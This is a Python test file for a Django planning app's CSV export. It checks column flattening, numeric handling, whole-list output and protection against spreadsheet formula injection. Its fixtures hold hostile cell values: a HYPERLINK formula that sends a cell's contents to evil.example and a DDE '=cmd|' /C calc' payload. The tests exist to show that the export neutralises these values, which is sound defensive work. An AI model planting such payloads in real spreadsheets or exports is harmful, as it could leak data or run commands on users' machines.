"""CSV variants: the whole filtered list (every page), one row per item, the JSON's fields
flattened into columns, every text cell safe to open in Excel, numbers left numbers."""

import datetime
from decimal import Decimal

import pytest

from improvement import roles
from improvement.api import views
from improvement.reports.safe import FORMULA_STARTS
from tests.factories import (
    ActionFactory,
    DataPointFactory,
    MeasureFactory,
    ObjectiveFactory,
    PlanFactory,
    ProgressUpdateFactory,
    TargetFactory,
    user_with_role,
)

pytestmark = pytest.mark.django_db
D = datetime.date
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def api(api_as):
    return api_as(user_with_role(roles.VIEWER))


@pytest.fixture
def plan():
    plan = PlanFactory(slug="hostile", title=HOSTILE, organisation="@SUM(1+1)")
    objective = ObjectiveFactory(plan=plan, reference="1", title="+cmd")
    action = ActionFactory(
        objective=objective, reference="1.1", title="-2+3", responsible="\tTab", due_date=None
    )
    ProgressUpdateFactory(action=action, as_at=D(2025, 5, 1), status="at_risk")
    ActionFactory(objective=objective, reference="1.2", title="\rReturn")
    measure = MeasureFactory(plan=plan, name="=1+1", unit="money", direction="higher")
    TargetFactory(measure=measure, value=Decimal("1000"), due_date=D(2026, 3, 31))
    DataPointFactory(measure=measure, period_end=D(2025, 3, 31), value=Decimal("2500.50"))
    DataPointFactory(
        measure=measure,
        period_end=D(2025, 6, 30),
        value=Decimal("-4000"),
        note="=cmd|' /C calc'!A0",
    )
    return plan


def test_every_list_has_a_csv_variant_with_the_json_fields_as_columns(api, plan):
    for path in ["plans/", "objectives/", "actions/", "measures/", "data-points/"]:
        rows = api.csv(path, as_at="2025-07-01")
        items = api.results(path, as_at="2025-07-01")
        assert len(rows) == len(items) > 0, path
        flat_keys = [
            f"{key}.{sub}" if isinstance(value, dict) else key
            for key, value in items[0].items()
            for sub in (value if isinstance(value, dict) else [None])
        ]
        assert list(rows[0]) == flat_keys, path
        assert [row["id"] for row in rows] == [str(item["id"]) for item in items], path


def test_text_that_a_spreadsheet_would_run_starts_with_an_apostrophe(api, plan):
    (row,) = api.csv("plans/")
    assert row["title"] == "'" + HOSTILE
    assert row["organisation"] == "'@SUM(1+1)"
    actions = api.csv("actions/", as_at="2025-07-01")
    assert [r["title"] for r in actions] == ["'-2+3", "'\rReturn"]
    assert actions[0]["responsible"] == "'\tTab"
    assert actions[0]["plan_title"] == "'" + HOSTILE
    (objective,) = api.csv("objectives/")
    assert objective["title"] == "'+cmd"
    (measure,) = api.csv("measures/")
    assert measure["name"] == "'=1+1"
    notes = [r["note"] for r in api.csv("data-points/", as_at="2025-07-01")]
    assert notes == ["", "'=cmd|' /C calc'!A0"]
    every_cell = [
        cell
        for path in ["plans/", "objectives/", "actions/", "measures/", "data-points/"]
        for row in api.csv(path, as_at="2025-07-01")
        for cell in row.values()
    ]
    assert not [cell for cell in every_cell if cell.startswith(FORMULA_STARTS) and cell[:1] != "-"]


def test_numbers_stay_numbers_even_when_negative(api, plan):
    (measure,) = api.csv("measures/", as_at="2025-07-01")
    assert measure["latest_value"] == "-4000"
    assert measure["previous_value"] == "2500.5"
    assert measure["change_since_previous"] == "-6500.5"
    # The same amount as text in its unit is text, and so made safe like any other.
    assert measure["latest_display"] == "'-£4,000"
    points = api.csv("data-points/", as_at="2025-07-01")
    assert [p["value"] for p in points] == ["2500.5", "-4000"]


def test_flags_dates_lists_and_no_status_are_written_plainly(api, plan):
    first, second = api.csv("actions/", as_at="2025-07-01")
    assert (first["overdue"], first["due_date"], first["last_update_on"]) == (
        "false",
        "",
        "2025-05-01",
    )
    assert (second["status"], second["status_label"]) == ("not_started", "Not started")
    (row,) = api.csv("plans/", as_at="2025-07-01")
    assert row["action_status_counts.at_risk"] == "1"
    assert row["restricted"] == "false"


def test_the_csv_is_the_whole_filtered_list_not_one_page(api, monkeypatch):
    monkeypatch.setattr(views, "CSV_CHUNK", 3)  # several chunks, in order
    plan = PlanFactory()
    for i in range(8):
        ObjectiveFactory(plan=plan, reference=str(i + 1))
    ObjectiveFactory(plan=PlanFactory(slug="other"), reference="1")
    rows = api.csv("objectives/", plan=plan.slug, page_size=2)
    assert [r["reference"] for r in rows] == [str(i + 1) for i in range(8)]


def test_the_csv_opens_in_excel_as_utf8_and_is_named_for_its_date(api, plan):
    response = api.get("actions/", format="csv", as_at="2025-07-01")
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs for UTF-8
    assert response["Content-Disposition"] == 'attachment; filename="actions-2025-07-01.csv"'


def test_asking_for_csv_in_the_accept_header_works_too(api, plan):
    response = api.client.get(
        "/api/v1/plans/", headers={"Authorization": f"Token {api.key}", "Accept": "text/csv"}
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_a_single_plan_as_csv_is_one_row(api, plan):
    response = api.get("plans/hostile/", format="csv")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert len(lines) == 2
    assert lines[0].startswith("id,slug,title,")


def test_a_refused_csv_request_says_why_in_csv(api, plan):
    response = api.get("actions/", format="csv", as_at="yesterday")
    assert response.status_code == 400
    assert response.content.decode("utf-8-sig").splitlines()[0] == "as_at"
